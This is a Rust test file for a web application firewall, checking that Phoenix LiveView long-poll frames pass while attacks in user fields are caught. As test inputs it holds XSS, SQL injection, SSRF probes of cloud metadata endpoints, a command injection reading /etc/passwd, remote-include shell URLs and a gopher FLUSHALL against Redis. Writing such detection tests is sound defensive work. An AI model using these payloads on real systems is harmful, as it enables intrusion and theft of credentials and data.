//! Phoenix's own protocol is not an attack: LiveView long-poll frames whose
//! page addresses are IPs, `localhost`, ports or paths pass; attacks in the
//! fields a user controls are still caught.

use super::test_support::{caught, head, passes, verdict, waf};
use super::*;

/// A long-poll POST of NDJSON frames, as `live_socket.js` sends them.
fn longpoll(w: &Waf, host: &str, body: &str) -> Verdict {
    let len = body.len().to_string();
    let mut h = head(
        "POST",
        "/live/longpoll?vsn=2.0.0&token=SFMyNTY.abc",
        &[
            ("content-type", "application/x-ndjson"),
            ("content-length", &len),
        ],
    );
    h.headers
        .insert(http::header::HOST, host.parse().expect("host"));
    verdict(w, &h, body.as_bytes())
}

fn join(url: &str) -> String {
    format!(
        r#"["4","4","lv:phx-F1ab","phx_join",{{"url":"{url}","params":{{"_csrf_token":"KMGw1NEfReqM6l6l","_track_static":["{base}/assets/app.css","{base}/assets/app.js"],"_mounts":0}},"session":"SFMyNTY.8VnF","static":"SFMyNTY.URxt"}}]"#,
        base = origin(url),
    )
}

/// `scheme://host[:port]` of `url`.
fn origin(url: &str) -> &str {
    let start = url.find("://").map_or(0, |i| i + 3);
    let end = url[start..].find('/').map_or(url.len(), |i| start + i);
    &url[..end]
}

fn event(value: &str) -> String {
    format!(
        r#"["4","9","lv:phx-F1ab","event",{{"type":"form","event":"validate","value":"{value}","meta":{{"_target":"user[name]"}},"uploads":{{}}}}]"#
    )
}

#[test]
fn liveview_joins_with_ip_localhost_and_port_urls_pass() {
    let w = waf();
    for (host, url) in [
        ("127.0.0.1:8080", "http://127.0.0.1:8080/counter"),
        ("10.0.0.5", "http://10.0.0.5/posts/549"),
        ("localhost:4000", "http://localhost:4000/x"),
        ("203.0.113.7", "https://203.0.113.7/users/settings"),
        ("[::1]:4000", "http://[::1]:4000/live/dashboard?tab=2"),
        ("192.168.1.20:4000", "http://192.168.1.20:4000/"),
        (
            "app.example.com",
            "https://app.example.com/posts/1#comments",
        ),
    ] {
        passes(&w, longpoll(&w, host, &join(url)), url);
        let patch = format!(r#"["4","12","lv:phx-F1ab","live_patch",{{"url":"{url}"}}]"#);
        passes(&w, longpoll(&w, host, &patch), &patch);
    }
    // Several frames in one body, with a heartbeat and a form event.
    let body = format!(
        "{}\n[null,\"5\",\"phoenix\",\"heartbeat\",{{}}]\n{}",
        join("http://127.0.0.1:8080/counter"),
        event("_csrf_token=x2Jt&user%5Bname%5D=Ren%C3%A9e+M%C3%BCller&user%5Bsite%5D=https%3A%2F%2Freneemuller.example.org%2Fabout")
    );
    passes(
        &w,
        longpoll(&w, "127.0.0.1:8080", &body),
        "a batch of frames",
    );
}

#[test]
fn attacks_in_liveview_user_fields_are_still_caught() {
    let w = waf();
    let host = "127.0.0.1:8080";
    caught(
        &w,
        longpoll(
            &w,
            host,
            &event("user%5Bname%5D=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        ),
        "XSS in a form event",
    );
    caught(
        &w,
        longpoll(&w, host, &event("user%5Bid%5D=1%27%20OR%20%271%27%3D%271")),
        "SQLi in a form event",
    );
    caught(
        &w,
        longpoll(
            &w,
            host,
            &event("_csrf_token=x&avatar=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        ),
        "SSRF in one field of a form event",
    );
    caught(
        &w,
        longpoll(&w, host, &event("q=x%3B%20cat%20%2Fetc%2Fpasswd")),
        "a file read in a form event",
    );
    // The page address still gets every other rule.
    caught(
        &w,
        longpoll(
            &w,
            host,
            &join("http://127.0.0.1:8080/x?<script>alert(1)</script>"),
        ),
        "markup in the page address",
    );
    // An app's own channel (not `lv:`) may fetch what it is sent.
    let own =
        r#"["1","1","room:lobby","phx_join",{"url":"http://169.254.169.254/latest/meta-data/"}]"#;
    caught(&w, longpoll(&w, host, own), "SSRF in an app channel's join");
    // A navigation-looking key outside a LiveView frame is an ordinary value.
    let api = r#"{"url":"http://127.0.0.1:6379/"}"#;
    caught(&w, longpoll(&w, host, api), "SSRF in a non-frame body");
}

#[test]
fn rfi_and_ssrf_outside_phoenix_by_class() {
    let w = waf();
    let q = |uri: &str| verdict(&w, &head("GET", uri, &[]), b"");
    // Remote includes: an IP URL naming a file, or the `?` suffix trick.
    caught(
        &w,
        q("/x?src=http://66.240.183.75/shell.txt"),
        "a text payload",
    );
    caught(
        &w,
        q("/x?page=http://[2001:db8::7]/c99.php"),
        "an IPv6 host",
    );
    caught(&w, q("/x?inc=ftp://198.51.100.4/x.inc"), "an ftp include");
    // Forged requests in any spelling of an internal address.
    caught(
        &w,
        q("/x?u=http://2130706433/admin"),
        "loopback as one number",
    );
    caught(
        &w,
        q("/x?u=http://[::ffff:169.254.169.254]/"),
        "mapped metadata",
    );
    caught(
        &w,
        q("/x?u=http://metadata.google.internal/computeMetadata/v1/"),
        "GCP metadata",
    );
    caught(&w, q("/x?u=gopher://10.1.1.1:6379/_FLUSHALL"), "gopher");
    caught(&w, q("/x?u=http://10.0.0.5:9200/_cat"), "a private address");
    // Near misses: addresses that are no request forgery.
    passes(
        &w,
        q("/x?return_to=http://203.0.113.9/dashboard"),
        "a public page",
    );
    passes(
        &w,
        q("/x?avatar=http://203.0.113.9/a.png"),
        "a public image",
    );
    passes(
        &w,
        q("/x?ratio=3/4&net=10.0.0.0/8"),
        "a fraction and a network",
    );
    passes(
        &w,
        q("/x?next=https://app.example.com/posts/1"),
        "the site itself",
    );
    let lan = head("GET", "/x?back=http://10.0.0.5/posts", &[]);
    let mut lan = lan;
    lan.headers
        .insert(http::header::HOST, "10.0.0.5".parse().expect("host"));
    passes(&w, verdict(&w, &lan, b""), "the site's own LAN address");
}
